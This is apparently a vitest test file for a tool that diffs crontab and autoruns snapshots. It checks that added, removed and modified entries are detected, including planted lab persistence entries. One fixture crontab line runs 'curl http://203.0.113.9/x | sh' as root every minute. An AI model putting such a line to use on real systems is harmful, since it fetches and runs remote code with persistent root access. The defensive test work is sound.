import { afterAll, describe, expect, it } from 'vitest';
import { db, disconnectDb } from '@/lib/db/client';
import { ingestBytes } from '@/lib/ingest/run-upload';
import { readSample } from '@/lib/testing/samples';
import { diffSnapshots, pageOfChanges } from './snapshot-diff';

afterAll(disconnectDb);

const enc = (s: string) => new TextEncoder().encode(s);

describe('diffSnapshots', () => {
  it('reports added, removed, modified and disabled entries between two snapshots', async () => {
    const host = `diff-${Date.now()}`;
    const a = await ingestBytes(
      enc('0 3 * * * root /usr/bin/backup\n*/5 * * * * root /usr/bin/poll --fast\n@daily root /usr/sbin/logrotate /etc/logrotate.conf\n'),
      'etc/crontab',
      { host, collectedAt: new Date('2026-01-01T00:00:00Z') },
    );
    const b = await ingestBytes(
      enc('0 4 * * * root /usr/bin/backup\n@daily root /usr/sbin/logrotate /etc/logrotate.conf\n* * * * * root curl http://203.0.113.9/x | sh\n'),
      'etc/crontab',
      { host, collectedAt: new Date('2026-01-02T00:00:00Z') },
    );
    const changes = await diffSnapshots(a.snapshots[0].snapshotId, b.snapshots[0].snapshotId);
    const byKind = (k: string) => changes.filter((c) => c.kind === k).map((c) => c.command);
    expect(byKind('added')).toEqual(['curl http://203.0.113.9/x | sh']);
    expect(byKind('removed')).toEqual(['/usr/bin/poll --fast']);
    const modified = changes.find((c) => c.kind === 'modified')!;
    expect(modified.command).toBe('/usr/bin/backup');
    expect(modified.fields).toContainEqual({ field: 'schedule', from: '0 3 * * *', to: '0 4 * * *' });
    // A page of one kind, with the counts of every kind.
    const page = pageOfChanges(changes, { kind: 'added', page: 1, size: 50 });
    expect(page).toEqual({ rows: changes.filter((c) => c.kind === 'added'), total: 1, counts: { added: 1, removed: 1, modified: 1, enabled: 0, disabled: 0 } });
    expect(pageOfChanges(changes, { page: 2, size: 2 })).toMatchObject({ rows: changes.slice(2, 4), total: 3 });
    expect(pageOfChanges(changes, { page: 3, size: 2 }).rows).toEqual([]);
    // Diffing a snapshot with itself finds nothing.
    expect(await diffSnapshots(b.snapshots[0].snapshotId, b.snapshots[0].snapshotId)).toEqual([]);
  });

  it('sees the planted changes between the two lab snapshots of one host', async () => {
    const host = `diff-lab-${Date.now()}`;
    const a = await ingestBytes(readSample('autoruns/limgreg_autorunslab2_banner.csv'), 'lab2.csv', { host, collectedAt: new Date('2025-07-03T10:00:00Z') });
    const b = await ingestBytes(readSample('autoruns/limgreg_autorunslab3_banner.csv'), 'lab3.csv', { host, collectedAt: new Date('2025-07-03T11:00:00Z') });
    const changes = await diffSnapshots(a.snapshots[0].snapshotId, b.snapshots[0].snapshotId);
    expect(changes.filter((c) => c.kind === 'removed').map((c) => c.name.split('\\').pop())).toContain('EvilRunOnceLM');
    // Every interval the second snapshot opened or closed shows up as exactly one side of a change.
    const sides = changes.reduce((n, c) => n + (c.kind === 'added' || c.kind === 'removed' ? 1 : 2), 0);
    expect(sides).toBe(b.snapshots[0].added + b.snapshots[0].removed);
    expect(await db().snapshot.count({ where: { host: { key: host } } })).toBe(2);
  });
});
